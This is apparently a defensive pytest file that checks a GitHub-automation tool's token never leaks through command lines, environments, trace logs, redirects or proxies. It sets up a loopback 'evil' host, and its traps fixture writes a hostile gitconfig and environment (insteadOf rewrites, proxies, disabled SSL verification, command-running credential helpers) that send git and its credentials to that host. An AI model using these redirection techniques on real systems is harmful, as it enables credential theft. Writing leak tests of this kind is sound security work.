"""F: the forge's token, while a real tick works on a loopback GitHub and git pushes over HTTP."""

from __future__ import annotations

import base64
import json
import os
import subprocess
import sys
from collections.abc import Iterator
from http.server import BaseHTTPRequestHandler, HTTPServer
from pathlib import Path
from typing import Any

import pytest

from tests.attacks import planted
from tests.attacks.arena import cases
from tests.factory import PLAIN_RULES
from tests.github_factory import GitHubFactory, factory
from tests.loopback.github import faults
from tests.loopback.listening import serving

pytestmark = pytest.mark.sandbox

HERE = Path(__file__).resolve().parent
RULES = [PLAIN_RULES[1], {"cell": "review", "do": [{"answer": {"next": "needs-human", "comment": "Seen."}}]}]


@pytest.fixture
def line(tmp_path: Path) -> Iterator[GitHubFactory]:
    with factory(tmp_path, rules=RULES, set_up=False) as made:
        made.settle()
        made.play()
        yield made


class Evil(BaseHTTPRequestHandler):
    """Another host: whatever is sent to it is kept."""

    def do_GET(self) -> None:
        self.server.heard.append(f"{self.path} {self.headers}")  # type: ignore[attr-defined]
        self.send_response(401)
        self.send_header("WWW-Authenticate", 'Basic realm="evil"')
        self.send_header("Content-Length", "0")
        self.end_headers()

    do_POST = do_CONNECT = do_HEAD = do_GET

    def log_message(self, format: str, *args: object) -> None:
        pass


@pytest.fixture
def evil() -> Iterator[HTTPServer]:
    with serving(HTTPServer(("127.0.0.1", 0), Evil)) as server:
        server.heard = []  # type: ignore[attr-defined]
        yield server


def heard(evil: HTTPServer) -> list[str]:
    return list(evil.heard)  # type: ignore[attr-defined]


def url(evil: HTTPServer) -> str:
    return f"http://127.0.0.1:{evil.server_port}"


def watched(folder: Path, command: list[str], **how: Any) -> tuple[str, dict[str, list[str]]]:
    """A command under the witness: what it printed, and what all its processes showed."""
    report = folder / "census.json"
    finished = subprocess.run(
        [sys.executable, "-I", str(HERE / "census.py"), str(report), "--", *command],
        capture_output=True, text=True, check=False, stdin=subprocess.DEVNULL, timeout=300, **how,
    )
    return finished.stdout + finished.stderr, json.loads(report.read_text())


def worked(line: GitHubFactory, **env: str) -> tuple[str, dict[str, list[str]]]:
    """A tick with a run, a push and a pull request."""
    line.file(label="implement")
    said = watched(line.root, line.command("tick"), env=line.environment(**env), cwd=line.home)
    assert line.pulls() == [2], said[0]
    assert said[1]["survivors"] == []
    return said


def token(line: GitHubFactory) -> str:
    return line.token_file.read_text().strip()


def shapes(value: str) -> set[bytes]:
    """As git sends it, too."""
    with_user = base64.b64encode(f"alice-cells:{value}".encode())
    return planted.disguises(value) | {with_user, base64.b64encode(f"x-access-token:{value}".encode())}


def places(line: GitHubFactory, said: str, report: dict[str, list[str]]) -> list[tuple[str, bytes]]:
    return [
        ("printed", said.encode()),
        *((name, "\n".join(report[name]).encode("utf-8", "surrogateescape"))
          for name in ("argv", "inside", "environ")),
        *planted.files(line.state), *planted.files(line.root / "hub"),
    ]


def found(value: str, contents: list[tuple[str, bytes]]) -> list[str]:
    return [name for name, content in contents if any(shape in content for shape in shapes(value))]


def test_f01_f04_the_token_is_nowhere_while_a_whole_tick_works(line: GitHubFactory) -> None:
    said, report = worked(line)
    assert any("remote-http" in words for words in report["argv"])  # it did see the push
    assert found(token(line), places(line, said, report)) == []


def test_control_f01_a_token_on_the_command_line_or_in_gits_environment_is_seen(
    line: GitHubFactory,
) -> None:
    basic = base64.b64encode(f"x-access-token:{token(line)}".encode()).decode()
    header = f"http.extraHeader=Authorization: Basic {basic}"
    _, report = watched(
        line.root, ["git", "-c", header, "ls-remote", f"{line.server.url}/alice/game.git"],
        env={"PATH": os.environ["PATH"], "HOME": str(line.home)}, cwd="/",
    )
    seen = {name: "\n".join(report[name]).encode("utf-8", "surrogateescape") for name in ("argv", "environ")}
    assert found(token(line), [*seen.items()]) == ["argv", "environ"]


def traps(line: GitHubFactory, evil: HTTPServer, folder: Path) -> dict[str, str]:
    """A home and an environment that would send git, and what it knows, to another host."""
    canary = folder / "canary"
    (folder / ".gitconfig").write_text(
        f'[url "{url(evil)}/"]\n\tinsteadOf = {line.server.url}/\n\tpushInsteadOf = {line.server.url}/\n'
        f'[http]\n\tproxy = {url(evil)}\n\tsslVerify = false\n[http "{line.server.url}"]\n'
        f"\tproxy = {url(evil)}\n[credential]\n\thelper = !touch {canary}\n"
        f"[core]\n\taskPass = touch {canary}\n\tsshCommand = touch {canary}\n\thooksPath = {folder}\n"
    )
    return {
        "HOME": str(folder), "GIT_CONFIG_GLOBAL": str(folder / ".gitconfig"), "GIT_SSL_NO_VERIFY": "1",
        "GIT_CONFIG_COUNT": "1", "GIT_CONFIG_KEY_0": "http.proxy", "GIT_CONFIG_VALUE_0": url(evil),
        "GIT_ASKPASS": f"touch {canary}", "GIT_PROXY_COMMAND": f"touch {canary}",
        **dict.fromkeys(("http_proxy", "https_proxy", "ALL_PROXY", "all_proxy"), url(evil)),
    }


def test_f02_nothing_planted_sends_git_anywhere_else(
    line: GitHubFactory, evil: HTTPServer, tmp_path: Path
) -> None:
    """The API's own client obeys a proxy of the owner's environment; so that one names none here."""
    folder = tmp_path / "trap"
    folder.mkdir()
    env = {**traps(line, evil, folder), "NO_PROXY": "127.0.0.1", "no_proxy": "127.0.0.1"}
    worked(line, **env)
    assert heard(evil) == []
    assert not (folder / "canary").exists()


def test_control_f02_everyday_git_goes_there_with_the_token(
    line: GitHubFactory, evil: HTTPServer, tmp_path: Path
) -> None:
    folder = tmp_path / "trap"
    folder.mkdir()
    basic = base64.b64encode(f"x:{token(line)}".encode()).decode()
    subprocess.run(
        ["git", "-c", f"http.extraHeader=Authorization: Basic {basic}", "ls-remote",
         f"{line.server.url}/alice/game.git"],
        env={"PATH": os.environ["PATH"], **traps(line, evil, folder)}, cwd="/", check=False,
        capture_output=True, stdin=subprocess.DEVNULL,
    )
    assert any(basic in words for words in heard(evil))


@pytest.mark.parametrize("kind", cases(("redirect", "bad_credentials", "forbidden_403"), "redirect"))
def test_f03_a_forge_that_sends_us_away_gets_no_second_question(
    line: GitHubFactory, evil: HTTPServer, monkeypatch: pytest.MonkeyPatch, kind: str
) -> None:
    monkeypatch.setitem(faults.ANSWERS, "redirect", faults.Answer(302, b"", {"location": f"{url(evil)}/x"}))
    line.file(label="implement")
    line.world.fail(kind, times=9)
    said, report = watched(line.root, line.command("tick"), env=line.environment(), cwd=line.home)
    assert heard(evil) == []
    assert len(said.splitlines()) == 1
    assert line.states(1) == {"implement"}
    assert found(token(line), places(line, said, report)) == []


def test_control_f03_a_client_that_follows_tells_the_other_host(
    line: GitHubFactory, evil: HTTPServer, monkeypatch: pytest.MonkeyPatch
) -> None:
    class Away(BaseHTTPRequestHandler):
        def do_GET(self) -> None:
            self.send_response(302)
            self.send_header("Location", f"{url(evil)}{self.path}")
            self.send_header("Content-Length", "0")
            self.end_headers()

        def log_message(self, format: str, *args: object) -> None:
            pass

    with serving(HTTPServer(("127.0.0.1", 0), Away)) as away:
        subprocess.run(
            ["git", "-c", "http.followRedirects=true", "-c", f"http.extraHeader=X-Token: {token(line)}",
             "ls-remote", f"{url(away)}/alice/game.git"],
            cwd="/", check=False, capture_output=True, stdin=subprocess.DEVNULL,
            env={"PATH": os.environ["PATH"], "HOME": str(line.home)},
        )
    assert any(token(line) in words for words in heard(evil))


def chatty(folder: Path) -> dict[str, str]:
    trace = {"GIT_TRACE", "GIT_CURL_VERBOSE", "GIT_TRACE_CURL", "GIT_TRACE_PACKET", "GIT_TRACE_SETUP"}
    return {
        **dict.fromkeys(trace, str(folder / "trace")), "GIT_TRACE_REDACT": "0", "PYTHONVERBOSE": "",
        "HTTPX_LOG_LEVEL": "trace", "PYTHONDEVMODE": "1", "PYTHONASYNCIODEBUG": "1",
        "SSLKEYLOGFILE": str(folder / "keys"), "TMPDIR": str(folder),
    }


def test_f04_no_trace_log_or_error_tells_the_token(line: GitHubFactory, tmp_path: Path) -> None:
    folder = tmp_path / "traces"
    folder.mkdir()
    line.world.fail("bad_gateway", operation="AddComment", at=2, after=True)
    line.file(label="implement")
    env = line.environment(**chatty(folder))
    first, _ = watched(line.root, line.command("tick", "--json"), env=env, cwd=line.home)
    second, report = watched(line.root, line.command("tick", "--json"), env=env, cwd=line.home)
    assert line.pulls() == [2], first + second
    told = [*places(line, first + second, report), *planted.files(folder)]
    assert found(token(line), told) == []


def test_control_f04_everyday_git_writes_it_into_the_trace(line: GitHubFactory, tmp_path: Path) -> None:
    folder = tmp_path / "traces"
    folder.mkdir()
    basic = base64.b64encode(f"x-access-token:{token(line)}".encode()).decode()
    done = subprocess.run(
        ["git", "-c", f"http.extraHeader=Authorization: Basic {basic}", "ls-remote",
         f"{line.server.url}/alice/game.git"],
        env={"PATH": os.environ["PATH"], "HOME": str(line.home), **chatty(folder)}, cwd="/", check=False,
        capture_output=True, stdin=subprocess.DEVNULL,
    )
    assert found(token(line), [("printed", done.stderr), *planted.files(folder)])
